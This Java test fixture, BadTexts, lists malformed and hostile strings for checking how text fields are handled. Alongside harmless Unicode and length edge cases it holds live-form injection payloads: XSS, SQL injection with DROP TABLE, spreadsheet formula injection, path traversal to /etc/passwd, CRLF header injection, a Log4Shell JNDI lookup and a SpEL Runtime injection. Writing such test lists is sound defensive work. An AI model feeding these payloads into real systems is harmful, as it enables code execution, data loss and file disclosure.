package io.kindline.infrastructure.shared;

import java.util.List;
import java.util.stream.Stream;

/** What people, programs and attackers put into text fields. */
public final class BadTexts {
    private BadTexts() {}

    /** Each must be stored as it came, made harmless, or refused with a clear error. */
    public static Stream<String> all() {
        return Stream.concat(
                Stream.of("x".repeat(25_001), "я".repeat(200_000), "\n".repeat(30_000)),
                List.of(
                        "",
                        "   ",
                        "\0",
                        "a\0b",
                        "\u0001\u0008\u001b[31m",
                        "\u200b\u200d\u2060\ufeff",
                        "\u202eevil\u202c",
                        "\u2066\u2067\u2069",
                        "\ud800",
                        "a\udc00b",
                        "\uffff\ufffe",
                        "مرحبا שלום",
                        "e\u0301".repeat(300),
                        "👩\u200d👩\u200d👧\u200d👦".repeat(40),
                        "<script>alert(1)</script>",
                        "<img src=x onerror=alert(1)>",
                        "javascript:alert(1)",
                        "=cmd|' /C calc'!A0",
                        "+1+1",
                        "-1+1",
                        "@SUM(A1)",
                        "\t=1+1",
                        "' or 1=1 --",
                        "'); drop table contacts_contacts; --",
                        "%_%",
                        "\\",
                        "../../etc/passwd",
                        "%00%0d%0aSet-Cookie:x",
                        "${jndi:ldap://example.invalid/a}",
                        "#{T(java.lang.Runtime)}",
                        "{0} %s %n",
                        "null",
                        "{\"a\":1}")
                        .stream());
    }
}
